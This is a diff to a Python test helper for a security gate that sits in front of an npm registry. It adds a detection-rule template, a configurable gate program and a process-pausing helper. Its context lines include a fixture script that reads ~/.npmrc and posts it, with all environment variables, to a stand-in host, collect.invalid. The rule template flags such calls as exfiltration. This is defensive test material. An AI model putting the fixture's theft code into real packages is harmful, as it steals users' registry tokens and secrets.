@@ -1,5 +1,6 @@
 """gatelib.py - a registry (Verdaccio), a gate before it, and package managers as its clients."""
 import base64
+import contextlib
 import gzip
 import hashlib
 import http.client
@@ -30,6 +31,19 @@ THIEF = ("if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
          "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
          "const r = https.request({ host: 'collect.invalid', path: '/x', method: 'POST' });\n"
          "r.write(t + JSON.stringify(process.env)); r.end();\n")
+
+# A rule: about %s, that a package calls %s.invalid.
+RULE = """rules:
+- id: calls-%s
+  title: Calls a host of thieves
+  severity: critical
+  verdict: malicious
+  phase: any
+  tactics: [T1041]
+  when: {event: net.connect, host: %s.invalid}
+  explain: It calls a host that belongs to thieves.
+  advice: Do not use it.
+"""
 
 ALLOW_YOUNG = "minimum-age: { default: 0, undated: allow }\n"
 
@@ -232,11 +246,12 @@ def name_of(pid):
 class Gate:
     """qanat gate on a port of its own; .url, .log()."""
 
-    def __init__(self, d, upstream=None, policy=ALLOW_YOUNG, service=None, args=(), state=None, env=None):
+    def __init__(self, d, upstream=None, policy=ALLOW_YOUNG, service=None, args=(), state=None, env=None, program=QANAT):
         self.dir = state or os.path.join(d, f"gate{time.time_ns()}")
         os.makedirs(self.dir, exist_ok=True)
         self.state, self.cache = f"{self.dir}/state", f"{self.dir}/cache"
         self.set_policy(policy)
+        self.program = program
         self.args = ["gate", "--state", self.state, "--cache", self.cache, "--policy", f"{self.dir}/policy.yaml", *args]
         if "--listen" not in args and not (service and "listen:" in service):
             self.args += ["--listen", "127.0.0.1:0"]
@@ -256,7 +271,7 @@ class Gate:
     def start(self):
         self.errors = open(f"{self.dir}/log", "ab")
         self.from_byte = os.path.getsize(f"{self.dir}/log")
-        self.process = subprocess.Popen([QANAT, *self.args], stdout=subprocess.DEVNULL, stderr=self.errors, env=self.env)
+        self.process = subprocess.Popen([self.program, *self.args], stdout=subprocess.DEVNULL, stderr=self.errors, env=self.env)
         wait_for(lambda: b"listening on" in self.log(True) or self.process.poll() is not None)
         assert self.process.poll() is None, self.log()
         self.address = re.search(rb"listening on (\S+)", self.log(True)).group(1).decode()
@@ -289,6 +304,17 @@ class Gate:
     def ledger(self, *args):
         r = subprocess.run([QANAT, "gate", "ledger", "--state", self.state, "--format", "json", *args], capture_output=True, check=False)
         return json.loads(r.stdout)
+
+
+@contextlib.contextmanager
+def stopped(pids):
+    for p in pids:
+        os.kill(p, signal.SIGSTOP)
+    try:
+        yield
+    finally:
+        for p in pids:
+            os.kill(p, signal.SIGCONT)
 
 
 class Receiver:
